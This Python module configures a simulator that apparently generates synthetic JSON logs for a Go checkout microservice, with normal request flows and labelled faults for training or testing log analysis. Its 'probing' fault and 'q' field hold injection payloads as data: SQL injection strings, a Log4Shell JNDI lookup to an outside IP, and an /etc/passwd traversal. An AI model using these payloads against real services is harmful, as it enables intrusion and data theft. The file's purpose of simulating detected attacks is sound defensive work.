# ruff: noqa: E501 - a script row is a log line and stays whole
"""A Go checkout microservice that logs JSON through zap: HTTP and gRPC handlers, Postgres, Redis, Kafka, a cart cache."""

from services.trainer.datasets.simulators.clocks import ISO_MS
from services.trainer.datasets.simulators.engine import Simulator, fault, flow
from services.trainer.datasets.simulators.fields import (
    address,
    counter,
    gauge,
    integer,
    moment,
    one_of,
    ramp,
    ranked,
    shaped,
    skewed,
    uuid,
)

_FIELDS = {
    "trace": shaped("????????????????????????????????"),
    "cart": uuid(),
    "order": shaped("ord_%%%%%%%%%%%%"),
    "user": shaped("usr_########"),
    "sku": shaped("SKU-####-&&"),
    "cents": skewed(4200, 0.8, least=199),
    "ms": skewed(14, 0.7, 3, least=0.4),
    "slow": skewed(1400, 0.3, 3, least=800),
    "items": integer(1, 6),
    "ip": address("10.42."),
    "pod": shaped("checkout-7d9f8b6c5-&&#&&"),
    "offset": counter(184000, 9),
    "part": integer(0, 11),
    "ver": one_of("v1.18.3"),
    "goroutines": gauge(140, 420),
    "heap": gauge(48, 130, 1),
    "idle": gauge(4, 18),
    "region": ranked("eu-west-1", "us-east-1", "ap-southeast-1"),
    "coupon": ranked("SPRING10", "FREESHIP", "WELCOME5", "VIP20"),
    "carrier": ranked("dhl", "ups", "fedex", "gls"),
    "provider": ranked("stripe", "adyen", "paypal"),
    "charge": shaped("ch_%%%%%%%%%%%%%%%%"),
    "agent": ranked("web/5.12.0", "ios/8.3.1", "android/8.2.0", "partner-api/2"),
    "n": integer(2, 40),
    "waiters": ramp(8, 1.3),
    "mb": ramp(310, 1.18, 1),
    "gr": ramp(700, 1.45),
    "lag": ramp(900, 1.5),
    "try": one_of("1", "2", "3"),
    "table": ranked("orders", "order_items", "payments", "outbox"),
    "key": shaped("????????"),
    "gone": moment(ISO_MS, -7_500_000, 60_000),
    "q": one_of(
        "' OR 1=1 --",
        "1; DROP TABLE orders--",
        "${jndi:ldap://185.220.101.4/a}",
        "../../../../etc/passwd",
        "1 UNION SELECT card FROM payments",
    ),
    "bad_ip": address("185.220."),
}

_FLOWS = (
    flow("checkout", 10, """
        info http | request started || ,"method":"POST","path":"/v1/checkout","trace_id":"{trace}","client":"{agent}"
        debug cart | loaded cart || ,"cart_id":"{cart}","items":{items},"cache":"hit","trace_id":"{trace}"
        ?0.15 debug cart | cart cache miss, reading from store || ,"cart_id":"{cart}","trace_id":"{trace}"
        info pricing | priced cart || ,"cart_id":"{cart}","total_cents":{cents},"currency":"EUR","trace_id":"{trace}"
        ?0.2 info pricing | coupon applied || ,"coupon":"{coupon}","cart_id":"{cart}","trace_id":"{trace}"
        /?0.06 info pricing | coupon rejected || ,"coupon":"{coupon}","reason":"expired","trace_id":"{trace}"
        info inventory | reserved stock || ,"sku":"{sku}","quantity":{items},"trace_id":"{trace}"
        +60-400 info payment | charge authorized || ,"provider":"{provider}","charge_id":"{charge}","amount_cents":{cents},"trace_id":"{trace}"
        info orders | order created || ,"order_id":"{order}","user_id":"{user}","total_cents":{cents},"trace_id":"{trace}"
        debug outbox | event staged || ,"topic":"orders.created","order_id":"{order}","trace_id":"{trace}"
        info http | request completed || ,"method":"POST","path":"/v1/checkout","status":201,"duration_ms":{ms},"trace_id":"{trace}"
    """),
    flow("get_order", 9, """
        info http | request started || ,"method":"GET","path":"/v1/orders/{order}","trace_id":"{trace}","client":"{agent}"
        ?0.5 debug store | query || ,"table":"{table}","rows":{items},"duration_ms":{ms},"trace_id":"{trace}"
        ?0.04 info http | request completed || ,"method":"GET","path":"/v1/orders/{order}","status":404,"duration_ms":{ms},"trace_id":"{trace}"
        /?0.03 info http | request completed || ,"method":"GET","path":"/v1/orders/{order}","status":304,"duration_ms":{ms},"trace_id":"{trace}"
        /     info http | request completed || ,"method":"GET","path":"/v1/orders/{order}","status":200,"duration_ms":{ms},"trace_id":"{trace}"
    """),
    flow("cart", 8, """
        info http | request started || ,"method":"PUT","path":"/v1/carts/{cart}/items","trace_id":"{trace}","client":"{agent}"
        debug cart | item added || ,"cart_id":"{cart}","sku":"{sku}","quantity":{items},"trace_id":"{trace}"
        ?0.02 warn cart | quantity clipped to stock || ,"sku":"{sku}","wanted":{n},"available":{items},"trace_id":"{trace}"
        info http | request completed || ,"method":"PUT","path":"/v1/carts/{cart}/items","status":200,"duration_ms":{ms},"trace_id":"{trace}"
    """),
    flow("invalid", 0.6, """
        info http | request started || ,"method":"POST","path":"/v1/checkout","trace_id":"{trace}","client":"{agent}"
        warn http | validation failed || ,"field":"shipping.postcode","error":"must match ^[0-9A-Z -]+$","trace_id":"{trace}"
        info http | request completed || ,"method":"POST","path":"/v1/checkout","status":422,"duration_ms":{ms},"trace_id":"{trace}"
    """),
    flow("card_declined", 0.7, """
        info http | request started || ,"method":"POST","path":"/v1/checkout","trace_id":"{trace}","client":"{agent}"
        info pricing | priced cart || ,"cart_id":"{cart}","total_cents":{cents},"currency":"EUR","trace_id":"{trace}"
        info inventory | reserved stock || ,"sku":"{sku}","quantity":{items},"trace_id":"{trace}"
        warn payment | charge declined || ,"provider":"{provider}","decline_code":"insufficient_funds","trace_id":"{trace}"
        info inventory | released stock || ,"sku":"{sku}","quantity":{items},"trace_id":"{trace}"
        info http | request completed || ,"method":"POST","path":"/v1/checkout","status":402,"duration_ms":{ms},"trace_id":"{trace}"
    """),
    flow("payment_retry", 0.4, """
        warn payment | provider call failed, retrying || ,"provider":"{provider}","attempt":1,"backoff_ms":200,"error":"context deadline exceeded","trace_id":"{trace}"
        +200-400 info payment | charge authorized || ,"provider":"{provider}","charge_id":"{charge}","amount_cents":{cents},"trace_id":"{trace}"
    """),
    flow("outbox", 5, """
        debug outbox | publishing batch || ,"size":{n}
        debug kafka | produced || ,"topic":"orders.created","partition":{part},"offset":{offset}
        ?0.03 warn kafka | produce retried || ,"topic":"orders.created","partition":{part},"attempt":1,"error":"NOT_LEADER_OR_FOLLOWER"
        debug outbox | batch published || ,"size":{n},"duration_ms":{ms}
    """),
    flow("shipment_event", 4, """
        debug kafka | consumed || ,"topic":"shipments.updated","partition":{part},"offset":{offset},"group":"checkout"
        info orders | order shipped || ,"order_id":"{order}","carrier":"{carrier}"
        ?0.05 info kafka | duplicate event skipped || ,"topic":"shipments.updated","order_id":"{order}"
    """),
    flow("grpc", 5, """
        info grpc | finished unary call with code OK || ,"grpc.service":"inventory.v1.Inventory","grpc.method":"Reserve","grpc.time_ms":{ms},"trace_id":"{trace}"
        ?0.02 info grpc | finished unary call with code NotFound || ,"grpc.service":"inventory.v1.Inventory","grpc.method":"Get","grpc.time_ms":{ms},"trace_id":"{trace}"
        /?0.02 info grpc | finished unary call with code Canceled || ,"grpc.service":"pricing.v2.Pricing","grpc.method":"Quote","grpc.time_ms":{ms},"trace_id":"{trace}"
    """),
    flow("client_gone", 0.25, """
        info http | request started || ,"method":"GET","path":"/v1/orders","trace_id":"{trace}","client":"{agent}"
        warn http | client closed request || ,"method":"GET","path":"/v1/orders","status":499,"error":"context canceled","trace_id":"{trace}"
    """),
    flow("slow_query", 0.15, """
        warn store | slow query || ,"table":"{table}","duration_ms":{slow},"rows":{n}
    """),
    flow("probe", 0, """
        debug http | readiness probe || ,"path":"/readyz","status":200,"duration_ms":{ms}
    """, every_s=10),
    flow("runtime_stats", 0, """
        info runtime | stats || ,"goroutines":{goroutines},"heap_mb":{heap},"gc_pause_ms":{ms},"db_idle":{idle}
    """, every_s=30),
    flow("flags", 0, """
        info flags | feature flags refreshed || ,"count":{n},"etag":"{key}"
        ?0.1 info flags | flag changed || ,"flag":"checkout.express","value":true
    """, every_s=60),
    flow("expire_carts", 0, """
        info jobs | job started || ,"job":"expire_carts"
        info jobs | expired carts removed || ,"job":"expire_carts","removed":{n},"before":"{gone}"
        info jobs | job finished || ,"job":"expire_carts","duration_ms":{ms}
    """, every_s=180),
    flow("token_refresh", 0, """
        debug auth | refreshing service token || ,"audience":"payments"
        debug auth | service token refreshed || ,"audience":"payments","ttl_s":900
    """, every_s=240),
    flow("rollout", 0.02, """
        info main | signal received, draining || ,"signal":"terminated","in_flight":{items}
        +900-2000 info http | server stopped ||
        info kafka | consumer group left || ,"group":"checkout"
        +1500-4000 info main | starting || ,"version":"{@ver}","region":"{@region}","go":"go1.23.4"
        info store | connected || ,"host":"pg-orders-rw:5432","max_conns":40
        info migrate | schema is current || ,"version":87
        info kafka | partitions assigned || ,"group":"checkout","partitions":[{part}]
        info http | listening || ,"addr":":8080"
    """),
    flow("nightly_report", 0.01, """
        info jobs | job started || ,"job":"nightly_report"
        info jobs | report written || ,"job":"nightly_report","rows":{n}00,"bucket":"s3://shop-reports-{@region}"
        info jobs | job finished || ,"job":"nightly_report","duration_ms":{slow}
    """, every_s=86400),
)  # fmt: skip

_FAILED_CHECKOUT = """
        info http | request started || ,"method":"POST","path":"/v1/checkout","trace_id":"{trace}","client":"{agent}"
"""

_FAULTS = (
    fault("db_pool_exhausted", "cpu_or_thread_exhausted",
        "数据库连接池被占满，请求等待连接直到超时", "The connection pool runs dry; requests wait for a connection until they time out", """
        *2-3 warn store | slow query || ,"table":"{~table}","duration_ms":{~slow},"rows":{~n}
        *2-4 warn store | waiting for a free connection || ,"in_use":40,"idle":0,"waiters":{~waiters}
        *3-5 error store | acquire connection || ,"error":"context deadline exceeded","waited_ms":5000.118,"trace_id":"{~trace}","stacktrace":"github.com/shop/checkout/internal/store.(*Pool).Acquire\\n\\t/src/internal/store/pool.go:88\\ngithub.com/shop/checkout/internal/orders.(*Service).Create\\n\\t/src/internal/orders/service.go:141"
        warn http | readiness probe || ,"path":"/readyz","status":503,"duration_ms":2000.431
        error outbox | batch not published || ,"error":"acquire connection: context deadline exceeded","size":{n}
    """, {"checkout": _FAILED_CHECKOUT + """
        error orders | create order failed || ,"error":"acquire connection: context deadline exceeded","trace_id":"{trace}"
        info http | request completed || ,"method":"POST","path":"/v1/checkout","status":500,"duration_ms":{slow},"trace_id":"{trace}"
    """, "get_order": """
        info http | request completed || ,"method":"GET","path":"/v1/orders/{order}","status":503,"duration_ms":{slow},"trace_id":"{trace}"
    """}),
    fault("payment_provider_down", "dependency_unavailable",
        "支付服务商不可用，熔断器打开，结账失败", "The payment provider is gone; the breaker opens and checkouts fail", """
        *3-5 warn payment | provider call failed, retrying || ,"provider":"stripe","attempt":{~try},"backoff_ms":800,"error":"dial tcp 10.42.7.9:443: connect: connection refused","trace_id":"{~trace}"
        *2-3 error payment | provider unavailable || ,"provider":"stripe","attempts":3,"error":"dial tcp 10.42.7.9:443: connect: connection refused","trace_id":"{~trace}"
        warn breaker | circuit opened || ,"name":"payment.stripe","failures":{n}
        *2-4 warn payment | rejected by open circuit || ,"name":"payment.stripe","trace_id":"{~trace}"
        +2000-4000 info breaker | circuit half-open || ,"name":"payment.stripe"
        warn breaker | circuit opened || ,"name":"payment.stripe","failures":1
    """, {"checkout": _FAILED_CHECKOUT + """
        info inventory | reserved stock || ,"sku":"{sku}","quantity":{items},"trace_id":"{trace}"
        error payment | provider unavailable || ,"provider":"stripe","attempts":3,"error":"circuit open","trace_id":"{trace}"
        info inventory | released stock || ,"sku":"{sku}","quantity":{items},"trace_id":"{trace}"
        info http | request completed || ,"method":"POST","path":"/v1/checkout","status":502,"duration_ms":{slow},"trace_id":"{trace}"
    """}),
    fault("goroutine_leak", "memory_exhausted",
        "协程泄漏使内存不断上涨，最终被内核杀死并重启", "Leaking goroutines eat the memory until the container is killed and starts again", """
        *3-5 info runtime | stats || ,"goroutines":{~gr},"heap_mb":{~mb},"gc_pause_ms":{~slow},"db_idle":0
        *2-3 warn runtime | memory above soft limit || ,"heap_mb":{~mb},"limit_mb":512
        warn http | request completed || ,"method":"GET","path":"/v1/orders/{order}","status":200,"duration_ms":{slow},"trace_id":"{trace}"
        +3000-5000 info main | starting || ,"version":"{@ver}","region":"{@region}","go":"go1.23.4"
        warn main | previous run ended without shutdown || ,"last_exit_code":137
        info http | listening || ,"addr":":8080"
    """),
    fault("nil_panic", "service_crash",
        "处理函数空指针崩溃，请求被恢复为500并反复出现", "A handler panics on a nil pointer again and again", """
        *3-5 error http | panic recovered || ,"panic":"runtime error: invalid memory address or nil pointer dereference","path":"/v1/checkout","trace_id":"{~trace}","stacktrace":"runtime.panicmem\\n\\t/usr/local/go/src/runtime/panic.go:262\\ngithub.com/shop/checkout/internal/pricing.(*Engine).apply\\n\\t/src/internal/pricing/engine.go:204"
        *2-3 info http | request completed || ,"method":"POST","path":"/v1/checkout","status":500,"duration_ms":{~ms},"trace_id":"{~trace}"
        fatal main | unrecoverable error || ,"error":"pricing: rules not loaded"
        +1500-3000 info main | starting || ,"version":"{@ver}","region":"{@region}","go":"go1.23.4"
        *1-2 error http | panic recovered || ,"panic":"runtime error: invalid memory address or nil pointer dereference","path":"/v1/checkout","trace_id":"{~trace}"
    """),
    fault("consumer_lag", "queue_backlog",
        "消费者反复重平衡，消息积压不断增长", "The consumer group keeps rebalancing and falls behind", """
        warn kafka | heartbeat failed || ,"group":"checkout","error":"REBALANCE_IN_PROGRESS"
        *3-4 warn kafka | consumer lag || ,"topic":"shipments.updated","partition":{~part},"lag":{~lag}
        info kafka | partitions revoked || ,"group":"checkout","partitions":[{part}]
        info kafka | partitions assigned || ,"group":"checkout","partitions":[{part}]
        *2-4 warn kafka | consumer lag || ,"topic":"shipments.updated","partition":{~part},"lag":{~lag}
        error kafka | commit offset || ,"topic":"shipments.updated","partition":{part},"error":"ILLEGAL_GENERATION"
    """, {"shipment_event": ""}),
    fault("probing", "injection_attempt",
        "来自同一地址的注入探测请求", "One address probes the API with injected payloads", """
        *6-10 warn http | validation failed || ,"field":"order_id","error":"invalid characters","value":"{~q}","remote":"{bad_ip}"
        *3-5 info http | request completed || ,"method":"GET","path":"/v1/orders/%27%20OR%201%3D1","status":400,"duration_ms":{~ms},"remote":"{bad_ip}"
        *2 warn auth | token rejected || ,"error":"token signature is invalid","alg":"none","remote":"{bad_ip}"
        ?0.7 error store | query || ,"table":"orders","error":"ERROR: syntax error at or near \\"UNION\\" (SQLSTATE 42601)","trace_id":"{trace}"
    """),
    fault("expired_cert", "certificate_expired",
        "上游证书过期，TLS握手全部失败", "An upstream certificate has expired; every TLS handshake fails", """
        *3-5 warn grpc | transport: authentication handshake failed || ,"target":"pricing:8443","error":"tls: failed to verify certificate: x509: certificate has expired or is not yet valid: current time is after {gone}"
        *2-4 error pricing | quote failed || ,"error":"rpc error: code = Unavailable desc = connection error","trace_id":"{~trace}"
        warn pricing | using cached price list || ,"age_s":{n}00
        *1-3 warn grpc | transport: authentication handshake failed || ,"target":"pricing:8443","error":"tls: failed to verify certificate: x509: certificate has expired or is not yet valid: current time is after {gone}"
    """, {"checkout": _FAILED_CHECKOUT + """
        error pricing | quote failed || ,"error":"rpc error: code = Unavailable desc = connection error","trace_id":"{trace}"
        info http | request completed || ,"method":"POST","path":"/v1/checkout","status":503,"duration_ms":{ms},"trace_id":"{trace}"
    """}),
)  # fmt: skip

SIMULATOR = Simulator(
    name="go_orders",
    language="en",
    headers={
        "": '{"level":"{level}","ts":"{time}","logger":"{source}","msg":"{message}","service":"checkout","pod":"{@pod}"{extra}}'
    },
    clock=ISO_MS,
    fields=_FIELDS,
    flows=_FLOWS,
    faults=_FAULTS,
    lines_per_s=8,
)
